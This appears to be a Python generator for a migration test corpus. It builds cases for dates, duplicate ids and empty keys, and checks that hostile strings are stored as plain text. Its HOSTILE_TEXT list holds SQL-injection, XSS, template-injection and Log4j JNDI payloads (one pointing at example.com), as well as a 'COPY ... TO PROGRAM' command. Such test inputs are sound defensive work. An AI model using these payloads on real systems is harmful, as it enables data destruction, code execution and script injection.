    ("expanded-negative-year", "-000001-01-01T00:00:00Z", OUT),
    ("five-digit-year", "10000-01-01T00:00:00Z", "expected a '-' after the year"),
    ("after-9999-by-offset", "9999-12-31T23:59:59.999-01:00", OUT),
    ("before-0001-by-offset", "0001-01-01T00:00:00+01:00", OUT),
    ("february-30", "2024-02-30T00:00:00Z", "day is out of range"),
    ("february-29-not-leap", "2023-02-29T00:00:00Z", "day is out of range"),
    ("month-13", "2024-13-01T00:00:00Z", "month is out of range"),
    ("hour-24", "2024-01-01T24:00:00Z", "hour is out of range"),
    ("minute-60", "2024-01-01T10:60:00Z", "minute is out of range"),
    ("invalid-date-text", "Invalid Date", "not an ISO 8601 date-time"),
    ("date-toString", "Mon Jan 01 2024 00:00:00 GMT+0000", "not an ISO 8601 date-time"),
    ("us-format", "01/02/2024", "not an ISO 8601 date-time"),
    ("empty", "", "not an ISO 8601 date-time"),
    ("offset-25-hours", "2024-01-01T00:00:00+25:00", "offset is out of range"),
]
for name, text, reason in DATES_BAD:
    case(f"dates/tasks/createdAt-{name}", "dates", [("tasks", js([task(createdAt=text, updatedAt=DROP)]))], [rejected("tasks", 0, "timestamp", reason)])
for name, text, reason in DATES_BAD[:6]:
    case(f"dates/tasks/dueDate-{name}", "dates", [("tasks", js([task(dueDate=text)]))], [rejected("tasks", 0, "timestamp", reason)])
    case(f"dates/environments/updatedAt-{name}", "dates", [("environments", js([env(updatedAt=text)]))], [rejected("environments", 0, "timestamp", reason)], secrets=[TOKEN])
DATES_OK = [
    ("year-0001", "0001-01-01T00:00:00Z"),
    ("year-9999-last-ms", "9999-12-31T23:59:59.999Z"),
    ("leap-day", "2024-02-29T12:00:00Z"),
    ("date-only", "2024-05-01"),
    ("offset-plus-14", "2024-01-01T00:00:00+14:00"),
    ("fraction-truncated", "2024-01-01T00:00:00.123456789Z"),
    ("epoch-zero", "1970-01-01T00:00:00.000Z"),
    ("before-epoch", "1969-12-31T23:59:59.999Z"),
]
for name, text in DATES_OK:
    t = task(createdAt=text, updatedAt=DROP, dueDate=text)
    case(f"dates/tasks/{name}-accepted", "dates", [("tasks", js([t]))], [t_ok(t, 0)])
# `JSON.stringify(new Date(NaN))` is null: a required date then is missing; an optional one NULL.
case("dates/tasks/createdAt-null-invalid-date", "dates", [("tasks", js([task(createdAt=None, updatedAt=DROP)]))], [rejected("tasks", 0, "missing", "required field `createdAt` is missing")])
t = task(dueDate=None)
case("dates/tasks/dueDate-null-invalid-date", "dates", [("tasks", js([t]))], [t_ok(t, 0)])
for name, ms in [("negative", -1), ("fractional", 1700000000000.75)]:
    v = {"savedAt": ms}
    fields, codes = form_fields("f", v)
    fields["updated_at"] = epoch_ms(int(ms // 1))
    case(f"dates/form_drafts/savedAt-{name}", "dates", [("formData:f", js(v))], [accepted("formData:f", None, (fields, codes), legacy_id="f")])

# ---------------------------------------------------------------------------------------------
# 9. SQL-looking and HTML/script strings: stored as text, unchanged.
# ---------------------------------------------------------------------------------------------

HOSTILE_TEXT = [
    ("sql-drop", "'); DROP TABLE tasks;--"),
    ("sql-or-true", "' OR '1'='1"),
    ("sql-sleep", "1; SELECT pg_sleep(10)--"),
    ("sql-dollar-quote", "$$; DROP TABLE tasks; $$"),
    ("sql-backslash-quote", "\\'; DROP TABLE tasks; --"),
    ("sql-copy-null-marker", "\\N"),
    ("sql-copy-end-marker", "\\."),
    ("sql-null-word", "NULL"),
    ("sql-tab-newline", "a\tb\nc\r\nd"),
    ("sql-copy-program", "COPY tasks TO PROGRAM 'id'"),
    ("sql-array-literal", "{a,b}"),
    ("sql-quoted-array-literal", "\"{,}\""),
    ("sql-subselect", "'||(SELECT current_user)||'"),
    ("sql-comment", "/* x */ -- ;"),
    ("sql-escape-string", "E'\\\\x00'"),
    ("format-string", "%s%n%x%d"),
    ("html-script", "<script>alert(1)</script>"),
    ("html-img-onerror", "<img src=x onerror=alert(1)>"),
    ("html-attribute-break", "\"><svg onload=alert(1)>"),
    ("html-javascript-url", "javascript:alert(1)"),
    ("html-textarea-break", "</textarea><script>alert(1)</script>"),
    ("html-entities-stay-entities", "&lt;b&gt;not bold&lt;/b&gt;"),
    ("html-comment", "<!-- comment"),
    ("html-bold", "<b>bold</b>"),
    ("html-style", "<style>*{display:none}</style>"),
    ("template-injection", "{{constructor.constructor('alert(1)')()}}"),
    ("log4j", "${jndi:ldap://example.com/a}"),
    ("rtl-override", "\u202egnp.exe"),
    ("zero-width", "zero\u200bwidth\ufeff"),
    ("emoji-combining", "\U0001F9E8 e\u0301 \ufdfd"),
    ("json-in-string", "{\"id\":\"evil\",\"status\":\"completed\"}"),
    ("lossless-escape-lookalike-text", "\\uFFFFD800 is not an escape"),
]
for name, s in HOSTILE_TEXT:
    t = task(id=s, title=s, description=s, tags=[s])
    e = env(id="env:" + s, name=s, description=s, config={"note": s, s: s, "githubToken": TOKEN})
    p = {"theme": "dark", "note": s}
    form_v = {"v": s}
    case(
        f"sql_html/{name}",
        "sql_html",
        [
            ("tasks", js([t])),
            ("environments", js([e])),
            ("userPreferences", js(p)),
            ("formData:" + s, js(form_v)),
            ("taskboard:" + s, js(s)),
        ],
        [t_ok(t, 0), e_ok(e, 0), p_ok(p), f_ok(s, form_v), c_ok(s, s)],
        secrets=[TOKEN],
    )
case(
    "sql_html/preferences/language-sql",
    "sql_html",
    [("userPreferences", js({"language": "en'; DROP TABLE user_preferences;--"}))],
    [rejected("userPreferences", None, "regex", "does not match the pattern")],
)

# ---------------------------------------------------------------------------------------------
# 10. Duplicate ids within one key and across keys.
# ---------------------------------------------------------------------------------------------

a = task(id="dup", title="same")
case("duplicates/tasks/identical-copies", "duplicates", [("tasks", js([a, a, a]))], [t_ok(a, 0), duplicate("tasks", 1, 0), duplicate("tasks", 2, 0)])
a_reordered = '[%s,{"updatedAt":"2024-01-02T00:00:00.000Z","createdAt":"2024-01-01T00:00:00.000Z","status":"pending","title":"same","id":"dup"}]' % js(a)
case("duplicates/tasks/identical-with-properties-reordered", "duplicates", [("tasks", a_reordered)], [t_ok(a, 0), duplicate("tasks", 1, 0)])
old = task(id="dup", title="old", updatedAt="2024-01-02T00:00:00.000Z")
new = task(id="dup", title="new", updatedAt="2024-03-01T00:00:00.000Z")
KEPT_NEWER = "but different content; the other one was kept (newer)"
case("duplicates/tasks/newer-wins-old-first", "duplicates", [("tasks", js([old, new]))], [rejected("tasks", 0, "duplicate", KEPT_NEWER), t_ok(new, 1)])
case("duplicates/tasks/newer-wins-new-first", "duplicates", [("tasks", js([new, old]))], [t_ok(new, 0), rejected("tasks", 1, "duplicate", KEPT_NEWER)])
tie1 = task(id="dup", title="tie one")
tie2 = task(id="dup", title="tie two")
case("duplicates/tasks/tie-one-kept-by-hash", "duplicates", [("tasks", js([tie1, tie2]))], [one_of("tasks", 0, "tie"), one_of("tasks", 1, "tie")])
n1 = task(id=7, title="numeric", updatedAt="2024-01-03T00:00:00.000Z")
n2 = task(id="7", title="string")
case("duplicates/tasks/number-and-string-id-are-one-id", "duplicates", [("tasks", js([n1, n2]))], [t_ok(n1, 0), rejected("tasks", 1, "duplicate", KEPT_NEWER)])
U = "8f14e45f-ceea-467f-a8f0-6c8d9b3f2a01"
up = task(id=U.upper(), title="upper", updatedAt="2024-01-03T00:00:00.000Z")
lo = task(id=U, title="lower")
case("duplicates/tasks/uuid-case-variants-are-one-id", "duplicates", [("tasks", js([lo, up]))], [rejected("tasks", 0, "duplicate", KEPT_NEWER), t_ok(up, 1)])
e1 = env(id="prod", name="one", updatedAt="2024-01-05T00:00:00.000Z")
e2 = env(id="prod", name="two")
case("duplicates/environments/newer-wins", "duplicates", [("environments", js([e2, e1]))], [rejected("environments", 0, "duplicate", "but different content; the other one was kept (newer)"), e_ok(e1, 1)], secrets=[TOKEN])
e3 = env(id="prod", name="same-time-a", updatedAt=DROP, createdAt=DROP)
e4 = env(id="prod", name="same-time-b", updatedAt=DROP, createdAt=DROP)
case("duplicates/environments/both-default-updatedAt-one-kept", "duplicates", [("environments", js([e3, e4]))], [one_of("environments", 0, "env"), one_of("environments", 1, "env")], secrets=[TOKEN])
# Across keys.
shared = "shared-id"
t = task(id=shared)
e = env(id=shared)
case("duplicates/across-kinds/same-legacy-id-task-and-environment", "duplicates", [("tasks", js([t])), ("environments", js([e]))], [t_ok(t, 0), e_ok(e, 0)], secrets=[TOKEN])
t = task(id=U)
e = env(id=U)
case("duplicates/across-kinds/same-uuid-task-and-environment", "duplicates", [("tasks", js([t])), ("environments", js([e]))], [t_ok(t, 0), e_ok(e, 0)], secrets=[TOKEN])
v = {"a": 1}
case("duplicates/across-kinds/formData-and-taskboard-same-suffix", "duplicates", [("formData:x", js(v)), ("taskboard:x", js(v))], [f_ok("x", v), c_ok("x", v)])
case(
    "duplicates/across-keys/form-suffix-case-and-space-variants",
    "duplicates",
    [("formData:x", js(v)), ("formData:X", js(v)), ("formData:x ", js(v)), ("formData: x", js(v))],
    [f_ok("x", v), f_ok("X", v), f_ok("x ", v), f_ok(" x", v)],
)
case(
    "duplicates/across-keys/custom-key-nested-prefix",
    "duplicates",
    [("taskboard:formData:x", js(v)), ("formData:taskboard:x", js(v))],
    [c_ok("formData:x", v), f_ok("taskboard:x", v)],
)
a = task(id="k", title="first export")
b = task(id="k", title="second export", updatedAt="2024-06-01T00:00:00.000Z")
case(
    "duplicates/across-keys/same-key-twice-different-content",
    "duplicates",
    [("tasks", js([a])), ("tasks", js([b]))],
    [rejected("tasks", 0, "duplicate", KEPT_NEWER), t_ok(b, 0)],
    note="A browser cannot hold one key twice; a merged export can. The newer record wins.",
)
case(
    "duplicates/across-keys/same-key-twice-identical",
    "duplicates",
    [("tasks", js([a])), ("tasks", js([a]))],
    [t_ok(a, 0), duplicate("tasks", 0, 0)],
)
p1 = {"theme": "dark"}
p2 = {"theme": "light"}
case(
    "duplicates/across-keys/preferences-twice-one-kept",
    "duplicates",
    [("userPreferences", js(p1)), ("userPreferences", js(p2))],
    [one_of("userPreferences", None, "prefs"), one_of("userPreferences", None, "prefs")],
)

# ---------------------------------------------------------------------------------------------
# 11. Empty keys and empty values.
# ---------------------------------------------------------------------------------------------

case("empty/key-empty-string", "empty", [("", js([task()]))], [], unknown=[""])
case("empty/key-formData-without-suffix", "empty", [("formData:", "{}")], [], unknown=["formData:"])
case("empty/key-taskboard-without-suffix", "empty", [("taskboard:", '"x"')], [], unknown=["taskboard:"])
case("empty/key-near-misses-are-unknown", "empty", [("Tasks", "[]"), (" tasks", "[]"), ("tasks ", "[]"), ("formdata:x", "{}"), ("\ud800", "[]"), ("\u0000", "[]")], [], unknown=["Tasks", " tasks", "tasks ", "formdata:x", "\ud800", "\u0000"])
case("empty/tasks-empty-array", "empty", [("tasks", "[]")], [])
case("empty/environments-empty-array", "empty", [("environments", "[]")], [])
case("empty/preferences-empty-object", "empty", [("userPreferences", "{}")], [p_ok({})])
case("empty/form_drafts-empty-object", "empty", [("formData:f", "{}")], [f_ok("f", {})])
case("empty/custom-empty-string-json", "empty", [("taskboard:e", '""')], [c_ok("e", "")])
case("empty/tasks-empty-title", "empty", [("tasks", js([task(title="")]))], [rejected("tasks", 0, "length", "field `title` has 0 characters, expected 1 to 500 characters")])
case("empty/tasks-empty-id", "empty", [("tasks", js([task(id="")]))], [rejected("tasks", 0, "id", "id field `id` should be a non-empty string or a safe integer, but is \"\"")])
case("empty/tasks-empty-tag", "empty", [("tasks", js([task(tags=[""])]))], [rejected("tasks", 0, "length", "field `tags[0]` has 0 characters, expected 1 to 64 characters")])
case("empty/tasks-empty-object", "empty", [("tasks", "[{}]")], [rejected("tasks", 0, ["id", "missing"], "has no id (field `id`)")])
case("empty/environments-empty-name", "empty", [("environments", js([env(name="")]))], [rejected("environments", 0, "length", "field `name` has 0 characters, expected 1 to 200 characters")], secrets=[TOKEN])
e = env(config={"": "", "githubToken": ""})
case("empty/environments-empty-config-key-and-token", "empty", [("environments", js([e]))], [e_ok(e, 0)])
t = task(description="", tags=[])
case("empty/tasks-empty-description-and-tags-kept-empty-not-null", "empty", [("tasks", js([t]))], [t_ok(t, 0)])
long_suffix = "f" * 201
case(
    "empty/form_drafts-suffix-201-chars",
    "empty",
    [("formData:" + long_suffix, "{}")],
    [rejected("formData:" + long_suffix, None, "length", "field `form_name` has 201 characters, expected 1 to 200 characters")],
)

# ---------------------------------------------------------------------------------------------

for c in cases:
    for e in c["expect"]:
        if e["outcome"] in ("valid", "repaired") and "fields" in e:
            for v in e["fields"].values():
                assert not (isinstance(v, dict) and "$gen" in v and len(v) != 1)

doc = {
    "about": (
        "Hostile localStorage corpus for specs/taskboard.json (issue 7). Written by "
        "tests/corpus/make_hostile.py; read by ferry-core/tests/hostile_corpus.rs and "
        "server/tests/api/hostile.rs. Strings are JavaScript strings: \\ud800-style escapes are "
        "lone surrogates. {\"$gen\": [...]} is a generated text (parts, {\"repeat\", \"times\"})."
    ),
    "format": "ferry-hostile-corpus/1",
    "spec": "specs/taskboard.json",
    "migrated_at_ms": 1750000000000,
    "cases": cases,
}
path = os.path.join(os.path.dirname(os.path.abspath(__file__)), "hostile.json")
with open(path, "w", encoding="utf-8") as f:
    json.dump(doc, f, ensure_ascii=True, indent=1)
    f.write("\n")
by_category = {}
for c in cases:
    by_category[c["category"]] = by_category.get(c["category"], 0) + 1
print(f"{len(cases)} cases -> {path}: {by_category}")
